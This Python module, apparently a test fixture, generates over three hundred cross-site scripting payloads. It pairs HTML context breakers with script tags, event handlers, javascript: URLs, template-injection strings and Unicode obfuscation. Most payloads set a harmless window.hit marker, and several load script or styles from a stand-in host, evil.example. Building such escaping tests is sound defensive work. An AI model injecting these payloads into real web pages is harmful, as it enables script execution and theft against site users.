"""Texts that would run, or open a tag, on a page that does not write them as text."""

BREAKS = (
    "", '">', "'>", "`>", "-->", "]]>", "</textarea>", "</title>", "</script>", "</select>",
    "<!--><", "&quot;>", "\\x3c", "<noscript><p title='</noscript>",
)  # fmt: skip
"""What may end where a text stands."""

TAGS = (
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<img src=x onerror=window.hit=1>",
    "<img/src=x/onerror=window.hit=1//",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script>",
    "<svg><animate onbegin=window.hit=1 attributeName=x>",
    "<body onload=window.hit=1>",
    "<iframe srcdoc='<script>top.hit=1</script>'>",
    "<iframe src=javascript:top.hit=1>",
    "<object data=javascript:window.hit=1>",
    "<embed src=javascript:window.hit=1>",
    "<math><mi xlink:href=javascript:window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input onfocus=window.hit=1 autofocus>",
    "<marquee onstart=window.hit=1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import'//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
)
OTHERS = (
    *(
        f"{quote}{space}{event}=window.hit=1 autofocus x={quote}"
        for quote in ('"', "'", "`")
        for space in (" ", "/")
        for event in ("onfocus", "onmouseover", "onanimationstart")
    ),
    *(
        f"{scheme}window.hit=1"
        for scheme in (
            "javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "&#106;avascript:",
            "data:text/html,<script>", "vbscript:", "view-source:javascript:",
        )
    ),
    "[läs](javascript:window.hit=1)",
    "![x](x 'onerror=window.hit=1')",
    "*<img src=x onerror=window.hit=1>*",
    "{{ window.hit }}{{ 7*7 }}",
    "{% raw %}<script>window.hit=1</script>",
    "${window.hit=1}",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\u202e<script>window.hit=1</script>",
    "\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e",
    "<scr\u200bipt>window.hit=1</scr\u200bipt>",
)  # fmt: skip
PAYLOADS = (*(f"{end}{tag}" for end in BREAKS for tag in TAGS), *OTHERS)
"""More than three hundred."""
